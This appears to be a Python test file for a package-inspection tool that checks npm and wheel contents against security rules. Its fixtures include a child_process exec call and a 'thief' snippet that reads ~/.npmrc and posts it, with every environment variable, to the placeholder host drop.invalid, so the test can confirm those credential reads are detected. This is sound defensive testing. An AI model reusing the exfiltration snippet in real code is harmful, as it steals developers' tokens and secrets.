"""From contents to an inspection."""

from pratique.analysis.inspection import RULESET
from pratique.analysis.rules import CONTENT_RULES
from pratique.core.names import Ecosystem
from tests.analysis.inspecting import npm, wheel


def test_every_rule_of_the_ecosystem_ran_or_says_why_not() -> None:
    inspection = npm({"index.js": "1"}).inspection
    told = {*inspection.ran, *(skipped.rule for skipped in inspection.not_applicable)}
    assert {rule.id for rule in CONTENT_RULES if Ecosystem.NPM in rule.ecosystems} == told


def test_with_a_baseline_no_rule_is_left_out() -> None:
    assert (
        ()
        == wheel(
            {"sample/__init__.py": "x = 1\n"}, {"sample/__init__.py": "x = 2\n"}
        ).inspection.not_applicable
    )


def test_the_inspection_names_its_bytes_and_rules() -> None:
    inspection = npm({"index.js": "1"}, {"index.js": "2"}).inspection
    assert RULESET == inspection.ruleset
    assert 64 == len(inspection.artifact.hex)
    assert inspection.baseline is not None
    assert inspection.artifact != inspection.baseline


def test_equal_bytes_give_equal_inspections() -> None:
    files = {"index.js": "require('child_process').exec('ls')"}
    assert npm(files).inspection == npm(files).inspection


def test_the_inspection_names_the_credentials_that_code_reads() -> None:
    thief = (
        "const fs = require('fs'), https = require('https');\n"
        "const key = fs.readFileSync(process.env.HOME + '/.npmrc');\n"
        "https.request('https://drop.invalid/').end(JSON.stringify(process.env) + key);\n"
    )
    assert {".npmrc", "all environment variables"} <= set(npm({"index.js": thief}).inspection.reads or ())
    assert () == npm({"index.js": "1", "test/a.js": thief}).inspection.reads
